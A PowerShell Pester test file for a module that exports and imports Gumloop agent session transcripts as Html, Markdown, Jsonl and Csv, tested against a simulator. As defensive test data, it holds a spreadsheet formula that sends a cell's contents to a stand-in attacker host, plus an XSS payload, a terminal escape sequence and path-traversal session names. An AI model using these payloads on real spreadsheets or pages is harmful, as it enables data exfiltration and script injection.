#Requires -Version 7.4
# Export-GumloopTranscript and Import-GumloopTranscript against the simulator, through the built module: what the
# cmdlets take from the pipeline, which files they write, and that every format gives back what went in.

BeforeAll {
    . $PSScriptRoot/TestHelpers.ps1
    $sim = Start-TestSimulator -ReplyDelayMs 20
    $agentId = 'r4Ts9Kq2MwX7bLn'
    $seeded = 'sess_Vk3nQ8wT2p', 'sess_Hm5rZ1xJ7c', 'sess_Pb9yE4uL6d'
    $formula = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
    $hostileSession = New-GumloopSession -AgentId $agentId -Name 'CON / ..\evil <b>' -Input $formula -Wait -TimeoutSec 30

    function New-OutDir([string] $Name) {
        $dir = Join-Path $TestDrive $Name
        $null = New-Item -ItemType Directory -Force -Path $dir
        $dir
    }

    # Messages as JSON, for comparing typed objects whole.
    function ConvertTo-Comparable($Messages) {
        @($Messages | ForEach-Object {
                [ordered]@{
                    Id = $_.Id; SessionId = $_.SessionId; AgentId = $_.AgentId; Role = $_.Role; Content = $_.Content; Text = $_.Text
                    AuthorName = $_.AuthorName; CreatedAt = $_.CreatedAt; CreatorId = $_.CreatorId; Parts = $_.Parts.ToString()
                    # The same JSON, whichever way its strings were escaped.
                    Raw = $_.GetRawJson() | ConvertFrom-Json -AsHashtable | ConvertTo-Json -Compress -Depth 50
                } | ConvertTo-Json -Compress
            })
    }
}

AfterAll {
    Disconnect-Gumloop
    if ($sim) { $sim | Stop-GumloopSimulator -Confirm:$false }
}

Describe 'Export-GumloopTranscript -SplitBySession' {
    BeforeAll {
        $dir = Join-Path $TestDrive 'split'
        $listed = @(Get-GumloopSession -AgentId $agentId -All)
        $files = @($listed | Export-GumloopTranscript -Path $dir -Format Html -SplitBySession)
    }

    It 'writes one file per listed session plus index.html, last' {
        $files.Count | Should -Be ($listed.Count + 1)
        $files[-1].Name | Should -Be 'index.html'
        @(Get-ChildItem $dir).Count | Should -Be $files.Count
        foreach ($file in $files) { $file | Should -BeOfType ([System.IO.FileInfo]) }
    }

    It 'outputs files that carry their format and counts and show in the transcript view' {
        $northwind = $files | Where-Object Name -like 'Northwind-renewal-brief_sess_Vk3nQ8wT2p.html'
        $northwind.Format | Should -Be 'Html'
        $northwind.SessionCount | Should -Be 1
        $northwind.MessageCount | Should -Be 2
        $files[-1].SessionCount | Should -Be $listed.Count
        $files[-1].PSObject.TypeNames[0] | Should -Be 'GumloopPS.TranscriptFile'
        ($files | Out-String -Width 80) | Should -Match 'Format\s+Sessions\s+Messages\s+Length\s+Name'
    }

    It 'names files safely from hostile session names' {
        $name = ($files | Where-Object Name -like "*$($hostileSession.Id)*").Name
        # Separators and markup become '_'; the dots are harmless inside a name, and "CON-..." is no device name.
        $name | Should -Be "CON-_-.._evil-_b_$($hostileSession.Id).html"
    }

    It 'links every session file from the index with state, date, message count and credit cost' {
        $index = Get-Content (Join-Path $dir 'index.html') -Raw
        foreach ($session in $listed) {
            $file = $files | Where-Object Name -like "*$($session.Id)*"
            $index | Should -Match ([regex]::Escape("href=`"$([uri]::EscapeDataString($file.Name))`""))
        }
        $index | Should -Match '<td class="state">approval_required</td>'
        $index | Should -Match '<time datetime="2026-09-14T16:30:00Z">2026-09-14 16:30:00 UTC</time>'
        $index | Should -Match '<td class="num message-count">2</td><td class="num credit-cost">7.25</td>'
    }

    It 'fetched every listed session in full, once' {
        foreach ($session in $listed) {
            @(Get-Request GET "/api/v1/sessions/$($session.Id)").Count | Should -BeGreaterOrEqual 1
        }
    }

    It 'refuses to overwrite without -Force and leaves the files as they were' {
        $before = (Get-Item (Join-Path $dir 'index.html')).LastWriteTimeUtc
        $r = Invoke-Capture { $listed | Export-GumloopTranscript -Path $dir -Format Html -SplitBySession }
        $r.Output | Should -BeNullOrEmpty
        $r.Errors[0].FullyQualifiedErrorId | Should -BeLike 'GumloopFileExists*'
        $r.Errors[0].CategoryInfo.Category | Should -Be 'ResourceExists'
        (Get-Item (Join-Path $dir 'index.html')).LastWriteTimeUtc | Should -Be $before
    }

    It 'overwrites with -Force' {
        $again = @($listed | Export-GumloopTranscript -Path $dir -Format Html -SplitBySession -Force)
        $again.Count | Should -Be $files.Count
    }

    It 'refuses a single session file that exists, without -Force, and still writes the others' {
        $dir2 = New-OutDir 'split-md'
        $first = Export-GumloopTranscript -SessionId $seeded[0] -Path $dir2 -Format Markdown -SplitBySession
        $r = Invoke-Capture { Export-GumloopTranscript -SessionId $seeded[0], $seeded[1] -Path $dir2 -Format Markdown -SplitBySession }
        @($r.Errors).Count | Should -Be 1
        $r.Errors[0].FullyQualifiedErrorId | Should -BeLike 'GumloopFileExists*'
        $r.Errors[0].TargetObject | Should -Be $first.FullName
        @($r.Output).Count | Should -Be 1
        $r.Output[0].Name | Should -BeLike '*sess_Hm5rZ1xJ7c.md'
        Test-Path (Join-Path $dir2 'index.html') | Should -BeFalse -Because 'only Html gets an index'
    }
}

Describe 'Export-GumloopTranscript to one file' {
    It 'takes ids, full sessions and listed sessions from the pipeline' {
        $path = Join-Path $TestDrive 'mixed.jsonl'
        $full = Get-GumloopSession -SessionId $seeded[1]
        $listed = Get-GumloopSession -AgentId $agentId -All | Where-Object Id -eq $seeded[2]
        $sim.ClearRequestLog()
        $file = @($seeded[0], $full, $listed) | Export-GumloopTranscript -Path $path -Format Jsonl
        $file.SessionCount | Should -Be 3
        @(Get-Request GET "/api/v1/sessions/$($seeded[1])").Count | Should -Be 0 -Because 'a full session is written without a request'
        @(Get-Request GET "/api/v1/sessions/$($seeded[2])").Count | Should -Be 1 -Because 'a listed session is fetched in full'
        @(Get-Request GET "/api/v1/sessions/$($seeded[0])").Count | Should -Be 1
    }

    It 'writes transcript.<ext> into an existing folder' {
        $dir = New-OutDir 'into-folder'
        $file = Export-GumloopTranscript -SessionId $seeded[0] -Path $dir -Format Markdown
        $file.FullName | Should -Be (Join-Path $dir 'transcript.md')
        (Get-Content $file.FullName -Raw) | Should -Match '(?m)^# Northwind renewal brief$'
    }

    It 'reports a session that cannot be fetched and exports the rest' {
        $path = Join-Path $TestDrive 'partial.html'
        $r = Invoke-Capture { Export-GumloopTranscript -SessionId $seeded[0], 'sess_missing', $seeded[1] -Path $path -Format Html }
        @($r.Errors).Count | Should -Be 1
        $r.Errors[0].TargetObject | Should -Be 'sess_missing'
        $r.Errors[0].CategoryInfo.Category | Should -Be 'ObjectNotFound'
        $r.Output[0].SessionCount | Should -Be 2
        ([regex]::Matches((Get-Content $path -Raw), '<section class="session">')).Count | Should -Be 2
    }

    It '-WhatIf writes nothing and sends no request' {
        $path = Join-Path $TestDrive 'whatif.html'
        $sim.ClearRequestLog()
        $r = Export-GumloopTranscript -SessionId $seeded[0] -Path $path -Format Html -WhatIf
        $r | Should -BeNullOrEmpty
        Test-Path $path | Should -BeFalse
        @(Get-ApiLog).Count | Should -Be 0
    }

    It 'refuses an existing file before fetching anything' {
        $path = Join-Path $TestDrive 'exists.csv'
        Set-Content $path 'keep'
        $sim.ClearRequestLog()
        $r = Invoke-Capture { Export-GumloopTranscript -SessionId $seeded[0] -Path $path -Format Csv }
        $r.Errors[0].FullyQualifiedErrorId | Should -BeLike 'GumloopFileExists*'
        (Get-Content $path -Raw).Trim() | Should -Be 'keep'
        @(Get-ApiLog).Count | Should -Be 0
        Get-ChildItem $TestDrive -Filter '.exists.csv.*' -Force | Should -BeNullOrEmpty
    }

    It 'writes full sessions without any connection' {
        $full = Get-GumloopSession -SessionId $seeded[0]
        $saved = Save-GumloopEnv
        Disconnect-Gumloop
        try {
            $file = $full | Export-GumloopTranscript -Path (Join-Path $TestDrive 'offline.md') -Format Markdown
            $file.MessageCount | Should -Be 2
        }
        finally {
            Restore-GumloopEnv $saved
            $sim | Connect-Gumloop
        }
    }
}

Describe 'Jsonl round trip' {
    BeforeAll {
        $path = Join-Path $TestDrive 'all.jsonl'
        $ids = @($seeded) + $hostileSession.Id
        $null = Export-GumloopTranscript -SessionId $ids -Path $path -Format Jsonl
        $expected = $ids | Get-GumloopMessage
    }

    It 'Import-GumloopTranscript gives back the messages Get-GumloopMessage outputs' {
        $imported = Import-GumloopTranscript $path
        $imported | ForEach-Object { $_ | Should -BeOfType ([GumloopPS.Core.Message]) }
        ConvertTo-Comparable $imported | Should -Be (ConvertTo-Comparable $expected)
    }

    It 'works offline, so Where-Object and Export-Csv run without a connection' {
        $saved = Save-GumloopEnv
        Disconnect-Gumloop
        $sim.ClearRequestLog()
        try {
            { Get-GumloopAgent -ErrorAction Stop } | Should -Throw -Because 'there is no connection at all'
            $sim.RequestLog.Count | Should -Be 0
            $csv = Join-Path $TestDrive 'answers.csv'
            Import-GumloopTranscript $path | Where-Object Role -eq assistant | Export-Csv $csv
            $rows = Import-Csv $csv
            @($rows).Count | Should -Be @($expected | Where-Object Role -eq assistant).Count
            $rows[0].Text | Should -Be ($expected | Where-Object Role -eq assistant | Select-Object -First 1).Text
        }
        finally {
            Restore-GumloopEnv $saved
            $sim | Connect-Gumloop
        }
        $sim.RequestLog.Count | Should -Be 0 -Because 'the import sent no request'
    }

    It 'reads files piped from Get-ChildItem' {
        @(Get-ChildItem $TestDrive -Filter 'all.jsonl' | Import-GumloopTranscript).Count | Should -Be @($expected).Count
    }

    It 'reports bad lines with their line number and reads the rest' {
        $bad = Join-Path $TestDrive 'bad.jsonl'
        $lines = @(Get-Content $path)
        Set-Content $bad -Value (@($lines[0], 'not json', $lines[1]))
        $r = Invoke-Capture { Import-GumloopTranscript $bad }
        @($r.Output).Count | Should -Be 2
        @($r.Errors).Count | Should -Be 1
        $r.Errors[0].FullyQualifiedErrorId | Should -BeLike 'GumloopInvalidTranscript*'
        $r.Errors[0].CategoryInfo.Category | Should -Be 'InvalidData'
        $r.Errors[0].TargetObject | Should -Be "$((Resolve-Path $bad).Path):2"
    }

    It 'reports a missing file' {
        $r = Invoke-Capture { Import-GumloopTranscript (Join-Path $TestDrive 'nope.jsonl') }
        $r.Errors[0].FullyQualifiedErrorId | Should -BeLike 'GumloopFileNotFound*'
        $r.Errors[0].CategoryInfo.Category | Should -Be 'ObjectNotFound'
    }
}

Describe 'Csv' {
    BeforeAll {
        $ids = $seeded[0], $seeded[1], $hostileSession.Id
        $messages = $ids | Get-GumloopMessage
    }

    It 'writes the same rows as Get-GumloopMessage | Export-Csv with -NoFormulaEscape' {
        $ours = Join-Path $TestDrive 'ours.csv'
        $theirs = Join-Path $TestDrive 'theirs.csv'
        $null = Export-GumloopTranscript -SessionId $ids -Path $ours -Format Csv -NoFormulaEscape
        $messages | Export-Csv $theirs
        (Get-Content $ours -Raw) | Should -BeExactly (Get-Content $theirs -Raw)
    }

    It 'prefixes a formula-like cell with an apostrophe by default' {
        $path = Join-Path $TestDrive 'safe.csv'
        $null = Export-GumloopTranscript -SessionId $hostileSession.Id -Path $path -Format Csv
        $row = Import-Csv $path | Where-Object Role -eq user
        $row.Text | Should -BeExactly "'$formula"
        $row.Content | Should -BeExactly "'$formula"
        (Import-Csv $path | Where-Object Role -eq assistant).Text | Should -Not -BeLike "'*"
    }

    It 'Export-Csv itself writes the raw formula, which is why the help warns about it' {
        ($messages | Where-Object Text -eq $formula | ConvertTo-Csv) -join "`n" | Should -Match ([regex]::Escape('"=HYPERLINK('))
    }

    It '-IncludeToolDetail adds the tool-call columns' {
        $path = Join-Path $TestDrive 'tools.csv'
        $null = Export-GumloopTranscript -SessionId $seeded[0] -Path $path -Format Csv -IncludeToolDetail
        $rows = Import-Csv $path
        $rows[0].PSObject.Properties.Name | Should -Be @('Id', 'SessionId', 'AgentId', 'Role', 'Content', 'Text', 'AuthorName', 'CreatedAt', 'CreatorId', 'Parts',
            'ToolCallCount', 'ToolNames', 'ToolStates', 'ToolArguments', 'ToolResults', 'ToolErrors')
        $rows[1].ToolCallCount | Should -Be '1'
        $rows[1].ToolNames | Should -Be 'hubspot_get_company'
        $rows[1].ToolArguments | Should -Match 'northwindtraders\.example'
    }
}

Describe 'Html and Markdown exports of hostile text' {
    It 'escape markup in the page and the ticket text' {
        $evil = '<img src=x onerror=alert(1)> [x](javascript:alert(1)) ' + [char]27 + ']0;pwned' + [char]7 + 'done'
        $s = New-GumloopSession -AgentId $agentId -Name $evil -Input $evil -Wait -TimeoutSec 30
        $html = Get-Content ($s | Export-GumloopTranscript -Path (Join-Path $TestDrive 'evil.html') -Format Html).FullName -Raw
        $html | Should -Not -Match '<img'
        $html | Should -Match ([regex]::Escape('&lt;img src=x onerror=alert(1)&gt;'))
        $html.Contains([string][char]27) | Should -BeFalse
        $html | Should -Match 'done'
        $md = Get-Content ($s | Export-GumloopTranscript -Path (Join-Path $TestDrive 'evil.md') -Format Markdown).FullName -Raw
        $md | Should -Match ([regex]::Escape('\<img src=x onerror=alert(1)\> \[x\](javascript:alert(1))'))
        $md.Contains([string][char]27) | Should -BeFalse
    }
}
